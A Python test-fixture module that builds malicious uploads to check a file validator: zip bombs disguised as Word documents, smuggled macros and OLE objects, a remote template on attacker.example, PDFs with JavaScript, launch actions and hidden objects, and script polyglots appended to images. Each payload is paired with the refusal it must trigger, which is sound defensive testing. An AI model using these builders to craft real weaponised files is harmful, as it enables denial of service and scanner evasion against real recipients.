"""Malicious files, built the way an attacker would build them: zip bombs shaped as office
documents (declared, lying and overlapping), macros and embedded programs, PDFs that run scripts
or carry files (with the library a real attacker would use, pikepdf, and by hand where names are
hex-escaped), and polyglots. Each payload names the refusal it must meet, so a test that passes
because some other guard fired instead fails."""

import io
import struct
import zlib
from dataclasses import dataclass
from functools import cache

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from grants.core import upload_office
from tests.applications.factories import DOCX_MAIN, JPEG, ODF_CONTENT, PDF, PNG, png_bytes

MB = 1024 * 1024


@dataclass(frozen=True)
class Payload:
    name: str  # the uploaded file's name
    what: str  # the attack, for test ids and messages
    expect: str  # a fragment of the refusal it must meet

    def content(self) -> bytes:
        return build(self.what)


@cache
def build(what: str) -> bytes:
    """Each payload built once a test run (some take a second to pack)."""
    return BUILDERS[what]()


# ---- zips, byte by byte (zipfile cannot write a lying or overlapping archive) -----------------


@dataclass
class Part:
    name: str
    data: bytes = b""
    zeros: int = 0  # or this many zero bytes, deflated as a stream (never held in memory)
    stored: bool = False
    declare_size: int | None = None  # lie about the opened size (and give the matching checksum)
    flags: int = 0
    hidden: bytes = b""  # bytes after the packed data, inside the part's packed size
    crc_xor: int = 0  # spoil the checksum


def _deflate(part: Part) -> tuple[bytes, int, int]:
    if part.stored:
        return part.data, len(part.data), zlib.crc32(part.data)
    if not part.zeros:
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        return packer.compress(part.data) + packer.flush(), len(part.data), zlib.crc32(part.data)
    packer, crc, out, block = zlib.compressobj(9, zlib.DEFLATED, -15), 0, [], bytes(MB)
    for start in range(0, part.zeros, MB):
        chunk = block[: min(MB, part.zeros - start)]
        out.append(packer.compress(chunk))
        crc = zlib.crc32(chunk, crc)
    out.append(packer.flush())
    return b"".join(out), part.zeros, crc


def local_header(name: bytes, method: int, crc: int, csize: int, usize: int, flags: int = 0) -> bytes:
    return struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, flags, method, 0, 0x21, crc, csize, usize, len(name), 0) + name


def raw_zip(parts: list[Part], *, extra_central: list[tuple] = ()) -> bytes:
    """The parts in order, then a central directory listing them (and `extra_central` records:
    name, method, crc, csize, usize, offset, flags), then the end record."""
    out, central = bytearray(), []
    for part in parts:
        data, usize, crc = _deflate(part)
        method = 0 if part.stored else 8
        if part.declare_size is not None:
            usize, crc = part.declare_size, zlib.crc32(bytes(part.declare_size))
        data, crc, name = data + part.hidden, crc ^ part.crc_xor, part.name.encode()
        central.append((name, method, crc, len(data), usize, len(out), part.flags))
        out += local_header(name, method, crc, len(data), usize, part.flags) + data
    start = len(out)
    for name, method, crc, csize, usize, offset, flags in [*central, *extra_central]:
        sizes = (crc, csize, usize, len(name), 0, 0, 0, 0, 0, offset)
        out += struct.pack("<4s6H3L5HLL", b"PK\x01\x02", 20, 20, flags, method, 0, 0x21, *sizes) + name
    count = len(central) + len(extra_central)
    out += struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(out) - start, start, 0)
    return bytes(out)


CONTENT_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    f'<Override PartName="/word/document.xml" ContentType="{DOCX_MAIN}"/>{{extra}}</Types>'
)
DOCUMENT = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>'


def docx(*parts: Part, extra_types: str = "") -> bytes:
    return raw_zip(
        [
            Part("[Content_Types].xml", CONTENT_TYPES.format(extra=extra_types).encode()),
            Part("word/document.xml", DOCUMENT),
            *parts,
        ]
    )


def odt(*parts: Part, body: str = "") -> bytes:
    return raw_zip(
        [
            Part("mimetype", b"application/vnd.oasis.opendocument.text", stored=True),
            Part("content.xml", ODF_CONTENT.format(body=body).encode()),
            *parts,
        ]
    )


def declared_bomb() -> bytes:
    """The reported attack: 300 MB of document in about 300 KB."""
    return docx(Part("word/document2.xml", zeros=300 * MB))


def dense_part() -> bytes:
    """One 50 MB part packed about 1,000 times: under the total, over the ratio."""
    return docx(Part("word/media/image1.xml", zeros=50 * MB))


def many_megabytes() -> bytes:
    """110 parts of exactly 1 MB each (each under the size the ratio applies from): the total."""
    return docx(*(Part(f"word/media/part{i}.xml", zeros=MB) for i in range(110)))


def many_parts() -> bytes:
    return docx(*(Part(f"customXml/item{i}.xml") for i in range(upload_office.MAX_MEMBERS)))


def lying_header() -> bytes:
    """A part declaring 8,000 bytes (with the checksum of 8,000 zero bytes) that inflates to 5 MB:
    every number in the directory looks harmless."""
    return docx(Part("word/media/image1.xml", zeros=5 * MB, declare_size=8000))


def overlapping() -> bytes:
    """Two directory entries over the same bytes: part A (stored) holds part B's header and data,
    each consistent on its own (the overlapping kind of zip bomb, in small)."""
    inner_data = bytes(4000)
    inner_name = b"word/media/b.xml"
    inner = local_header(inner_name, 0, zlib.crc32(inner_data), len(inner_data), len(inner_data)) + inner_data
    archive = docx(Part("word/media/a.xml", inner, stored=True))
    b_offset = archive.index(b"word/media/a.xml") + len(b"word/media/a.xml")  # where part A's data starts
    extra = [(inner_name, 0, zlib.crc32(inner_data), len(inner_data), len(inner_data), b_offset, 0)]
    parts = [
        Part("[Content_Types].xml", CONTENT_TYPES.format(extra="").encode()),
        Part("word/document.xml", DOCUMENT),
        Part("word/media/a.xml", inner, stored=True),
    ]
    return raw_zip(parts, extra_central=extra)


def appended_to_docx() -> bytes:
    return docx() + b"<html><script>alert(1)</script></html>"


def docm_renamed() -> bytes:
    """A .docm's main part type, renamed .docx (its VBA project is the next payload)."""
    return raw_zip(
        [
            Part(
                "[Content_Types].xml",
                CONTENT_TYPES.replace(DOCX_MAIN, "application/vnd.ms-word.document.macroEnabled.main+xml")
                .format(extra="")
                .encode(),
            ),
            Part("word/document.xml", DOCUMENT),
        ]
    )


def vba_smuggled() -> bytes:
    return docx(Part("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 VBA"))


def activex() -> bytes:
    return docx(Part("word/activeX/activeX1.bin", b"\xd0\xcf\x11\xe0 control"))


def ole_object() -> bytes:
    return docx(Part("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0 Package MZ"))


def ole_by_type() -> bytes:
    return docx(
        Part("word/media/object1.dat", b"\xd0\xcf\x11\xe0 Package MZ"),
        extra_types='<Override PartName="/word/media/object1.dat" '
        'ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
    )


def twin_parts() -> bytes:
    """Two parts by one name: which one a reader takes is up to the reader."""
    return raw_zip(
        [
            Part("[Content_Types].xml", CONTENT_TYPES.format(extra="").encode()),
            Part("word/document.xml", DOCUMENT),
            Part("word/document.xml", b"<w:document><w:body><w:p>other</w:p></w:body></w:document>"),
        ]
    )


def part_in_front() -> bytes:
    """A part the directory does not list, in front of the document: a web page, for a reader
    that reads local headers from the start."""
    page = b"<html><script>alert(1)</script></html>"
    return local_header(b"index.html", 0, zlib.crc32(page), len(page), len(page)) + page + docx()


def encrypted_part() -> bytes:
    return docx(Part("word/media/secret.xml", b"<x/>", flags=0x1))


def hidden_in_a_part() -> bytes:
    return docx(Part("word/media/image1.xml", b"<x/>", hidden=b"<html><script>alert(1)</script></html>"))


def renamed_local_header() -> bytes:
    data = docx(Part("word/media/image1.xml", b"<x/>"))
    at = data.index(b"word/media/image1.xml")  # the local header's copy comes first
    return data[:at] + b"word/media/image1.xmL" + data[at + len(b"word/media/image1.xml") :]


def spoiled_checksum() -> bytes:
    return docx(Part("word/media/image1.xml", b"<x/>", crc_xor=0xFF))


def large_embedded() -> bytes:
    """An embedded workbook over 20 MB (packed about ten times: no bomb)."""
    import random

    noise = random.Random(20)
    body = b"".join(noise.randbytes(100) + bytes(924) for _ in range(21 * 1024))
    inner = raw_zip([Part("xl/worksheets/sheet1.xml", body, stored=True)])
    return docx(Part("word/embeddings/Microsoft_Excel_Worksheet.xlsx", inner))


def remote_template() -> bytes:
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    return docx(Part("word/_rels/settings.xml.rels", rels.encode()))


def nested_macros() -> bytes:
    return docx(Part("word/embeddings/Microsoft_Word_Document.docx", vba_smuggled()))


def nested_bomb() -> bytes:
    return docx(Part("word/embeddings/Microsoft_Excel_Worksheet.xlsx", dense_part()))


def nested_total() -> bytes:
    """60 MB in the document and 60 MB in the workbook embedded in it, in 1 MB parts (each under
    the ratio's floor): each under the limit alone, over it together."""
    inner = docx(*(Part(f"xl/media/part{i}.xml", zeros=MB) for i in range(60)))
    return docx(
        Part("word/embeddings/Microsoft_Excel_Worksheet.xlsx", inner),
        *(Part(f"word/media/p{i}.xml", zeros=MB) for i in range(60)),
    )


def nested_twice() -> bytes:
    inner = docx(Part("word/embeddings/Inner.docx", docx()))
    return docx(Part("word/embeddings/Outer.docx", inner))


def odt_basic() -> bytes:
    return odt(Part("Basic/Standard/Module1.xml", b"<script:module/>"))


def odt_event_macro() -> bytes:
    """A macro bound to the document's load event, its URL hidden from a byte search by a
    character reference (&#46; is a full stop once parsed)."""
    listener = (
        '<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" '
        'xlink:href="vnd&#46;sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
        "</office:event-listeners>"
    )
    return odt(body=listener)


# ---- PDFs ---------------------------------------------------------------------------------------


def _pikepdf(change) -> bytes:
    """A one-page PDF changed by `change`, saved as an attacker would to dodge a byte search:
    objects packed into compressed object streams."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    change(pdf)
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    return out.getvalue()


def _set(key: str, value):
    def change(pdf):
        pdf.Root[key] = pdf.make_indirect(value) if isinstance(value, Dictionary) else value

    return change


def _annotate(annot: Dictionary):
    def change(pdf):
        pdf.pages[0].Annots = Array([pdf.make_indirect(annot)])

    return change


def js_open_action() -> bytes:
    return _pikepdf(_set("/OpenAction", Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))))


def js_name_tree() -> bytes:
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    return _pikepdf(_set("/Names", Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))))


def launch_link() -> bytes:
    link = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 100, 100], A=Dictionary(S=Name.Launch, F=String("cmd.exe"))
    )
    return _pikepdf(_annotate(link))


def embedded_file() -> bytes:
    def change(pdf):
        pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", filename="invoice.exe")

    return _pikepdf(change)


def page_actions() -> bytes:
    def change(pdf):
        pdf.pages[0].AA = Dictionary(O=Dictionary(S=Name.URI, URI=String("https://attacker.example/")))

    return _pikepdf(change)


def rich_media() -> bytes:
    return _pikepdf(_annotate(Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 10, 10])))


def xfa_form() -> bytes:
    return _pikepdf(_set("/AcroForm", Dictionary(Fields=Array(), XFA=Array([String("template"), String("<xdp/>")]))))


def password_protected() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(user="open-sesame", owner="owner-secret"))
    return out.getvalue()


def _by_hand(*objects: bytes) -> bytes:
    from tests.applications.factories import pdf_bytes

    catalog = b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>"
    return pdf_bytes(
        catalog, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>", *objects
    )


def js_hex_escaped() -> bytes:
    return _by_hand(b"<</S/J#61vaScript/J#53(app.alert(1))>>")


def js_indirect_name() -> bytes:
    """The action's type is an indirect object, itself a hex-escaped name."""
    return _by_hand(b"<</S 5 0 R>>", b"/J#61v#61Script")


def js_outside_the_xref() -> bytes:
    """A script object the cross-reference table does not list (qpdf never sees it; a viewer
    rebuilding a damaged table might): only the raw-byte net catches it."""
    base = PDF
    orphan = b"9 0 obj\n<</S/J#61vaScript/JS(app.alert(1))>>\nendobj\n"
    xref = base.index(b"xref\n")
    start = base.rindex(b"startxref\n") + len(b"startxref\n")
    end = base.index(b"\n", start)
    patched = base[:xref] + orphan + base[xref:start] + str(xref + len(orphan)).encode() + base[end:]
    return patched


def pdf_html_after_eof() -> bytes:
    return PDF + b"<html><body><script>alert(document.cookie)</script></body></html>\n"


def pdf_zip_after_eof() -> bytes:
    return PDF + docx()


def pdf_unreadable() -> bytes:
    return b"%PDF-1.7\n" + bytes(range(256)) * 4 + b"\n%%EOF\n"


def pdf_without_end() -> bytes:
    return PDF[: PDF.rindex(b"%%EOF")]


def pdf_markup_at_start() -> bytes:
    return PDF.replace(b"%PDF-1.4\n", b"%PDF-1.4\n%<html><body onload=alert(1)>\n", 1)


# ---- images --------------------------------------------------------------------------------------


def _png_text(text: bytes, *, after: int = 0) -> bytes:
    """A PNG with a tEXt chunk holding `text`, after `after` bytes of another chunk."""
    base = png_bytes()
    iend = base.rindex(b"\x00\x00\x00\x00IEND")

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    filler = chunk(b"zzZz", bytes(after)) if after else b""
    return base[:iend] + filler + chunk(b"tEXt", b"Comment\x00" + text) + base[iend:]


BUILDERS = {
    "declared 300 MB zip bomb": declared_bomb,
    "one part packed 1,000 times": dense_part,
    "110 MB in small parts": many_megabytes,
    "10,000 parts": many_parts,
    "lying header": lying_header,
    "overlapping parts": overlapping,
    "page appended to a docx": appended_to_docx,
    "docm renamed docx": docm_renamed,
    "VBA project smuggled in": vba_smuggled,
    "ActiveX control": activex,
    "OLE object": ole_object,
    "remote template": remote_template,
    "OLE object declared by type": ole_by_type,
    "two parts by one name": twin_parts,
    "a part in front of the document": part_in_front,
    "encrypted part": encrypted_part,
    "bytes hidden after a part's data": hidden_in_a_part,
    "local header naming another part": renamed_local_header,
    "spoiled checksum": spoiled_checksum,
    "embedded document over 20 MB": large_embedded,
    "unreadable PDF": pdf_unreadable,
    "PNG with no end": lambda: PNG[: PNG.rindex(b"IEND") - 4],
    "macros in an embedded document": nested_macros,
    "zip bomb in an embedded document": nested_bomb,
    "documents nested twice": nested_twice,
    "120 MB across a document and its embedded one": nested_total,
    "ODT Basic macros": odt_basic,
    "ODT macro on opening, escaped": odt_event_macro,
    "JavaScript on opening, object streams": js_open_action,
    "JavaScript name tree": js_name_tree,
    "launch action": launch_link,
    "embedded file": embedded_file,
    "automatic page action": page_actions,
    "rich media": rich_media,
    "XFA form": xfa_form,
    "password": password_protected,
    "JavaScript, hex-escaped name": js_hex_escaped,
    "JavaScript, indirect hex-escaped name": js_indirect_name,
    "JavaScript outside the xref": js_outside_the_xref,
    "HTML after the PDF": pdf_html_after_eof,
    "zip after the PDF": pdf_zip_after_eof,
    "PDF with no end": pdf_without_end,
    "HTML at the start of a PDF": pdf_markup_at_start,
    "HTML after the PNG": lambda: PNG + b"<html><script>alert(1)</script></html>",
    "zip after the PNG": lambda: PNG + docx(),
    "SVG in the first KB of a PNG": lambda: _png_text(b"<svg onload=alert(1)>"),
    "script deep in a PNG": lambda: _png_text(b"<script>alert(1)</script>", after=4096),
    "HTML after the JPEG": lambda: JPEG + b"<html><script>alert(1)</script></html>",
    "video after the JPEG": lambda: JPEG + b"\x00\x00\x00\x18ftypmp42" + bytes(64),
    "JPEG with no end": lambda: JPEG[:-2],
}

OFFICE_ALTERED = "damaged or has been altered"
PAYLOADS = [
    Payload("report.docx", "declared 300 MB zip bomb", "zip bomb"),
    Payload("report.docx", "one part packed 1,000 times", "packed more than 100 times smaller"),
    Payload("report.docx", "110 MB in small parts", "less than 100MB when uncompressed"),
    Payload("report.docx", "10,000 parts", "holds more than 10,000 parts"),
    Payload("report.docx", "lying header", OFFICE_ALTERED),
    Payload("report.docx", "overlapping parts", OFFICE_ALTERED),
    Payload("report.docx", "page appended to a docx", OFFICE_ALTERED),
    Payload("report.docx", "docm renamed docx", "contains macros"),
    Payload("report.docx", "VBA project smuggled in", "contains macros"),
    Payload("report.docx", "ActiveX control", "embedded objects or controls"),
    Payload("report.docx", "OLE object", "embedded objects or controls"),
    Payload("report.docx", "remote template", "fetches a template"),
    Payload("report.docx", "OLE object declared by type", "embedded objects or controls"),
    Payload("report.docx", "two parts by one name", OFFICE_ALTERED),
    Payload("report.docx", "a part in front of the document", OFFICE_ALTERED),
    Payload("report.docx", "encrypted part", OFFICE_ALTERED),
    Payload("report.docx", "bytes hidden after a part's data", OFFICE_ALTERED),
    Payload("report.docx", "local header naming another part", OFFICE_ALTERED),
    Payload("report.docx", "spoiled checksum", OFFICE_ALTERED),
    Payload("report.docx", "embedded document over 20 MB", "embedded document larger than 20MB"),
    Payload("report.pdf", "unreadable PDF", "PDF that could not be read"),
    Payload("photo.png", "PNG with no end", "PNG that could not be read"),
    Payload("report.docx", "macros in an embedded document", "contains macros"),
    Payload("report.docx", "zip bomb in an embedded document", "packed more than 100 times smaller"),
    Payload("report.docx", "documents nested twice", "documents nested inside documents"),
    Payload("report.docx", "120 MB across a document and its embedded one", "less than 100MB when uncompressed"),
    Payload("report.odt", "ODT Basic macros", "contains macros"),
    Payload("report.odt", "ODT macro on opening, escaped", "contains macros"),
    Payload("report.pdf", "JavaScript on opening, object streams", "PDF containing JavaScript"),
    Payload("report.pdf", "JavaScript name tree", "PDF containing JavaScript"),
    Payload("report.pdf", "launch action", "open other programs or files"),
    Payload("report.pdf", "embedded file", "other files attached inside it"),
    Payload("report.pdf", "automatic page action", "run by themselves"),
    Payload("report.pdf", "rich media", "interactive media or an XML form"),
    Payload("report.pdf", "XFA form", "interactive media or an XML form"),
    Payload("report.pdf", "password", "protected by a password"),
    Payload("report.pdf", "JavaScript, hex-escaped name", "PDF containing JavaScript"),
    Payload("report.pdf", "JavaScript, indirect hex-escaped name", "PDF containing JavaScript"),
    Payload("report.pdf", "JavaScript outside the xref", "PDF containing JavaScript"),
    Payload("report.pdf", "HTML after the PDF", "web page code (HTML or script) as well as the PDF"),
    Payload("report.pdf", "zip after the PDF", "hidden after the end of the PDF"),
    Payload("report.pdf", "PDF with no end", "could not be read"),
    Payload("report.pdf", "HTML at the start of a PDF", "web page code"),
    Payload("photo.png", "HTML after the PNG", "web page code (HTML or script) as well as the PNG"),
    Payload("photo.png", "zip after the PNG", "hidden after the end of the PNG"),
    Payload("photo.png", "SVG in the first KB of a PNG", "web page code"),
    Payload("photo.png", "script deep in a PNG", "web page code"),
    Payload("photo.jpg", "HTML after the JPEG", "web page code (HTML or script) as well as the JPEG"),
    Payload("photo.jpg", "video after the JPEG", "hidden after the end of the JPEG"),
    Payload("photo.jpg", "JPEG with no end", "JPEG that could not be read"),
]
assert {p.what for p in PAYLOADS} == set(BUILDERS)
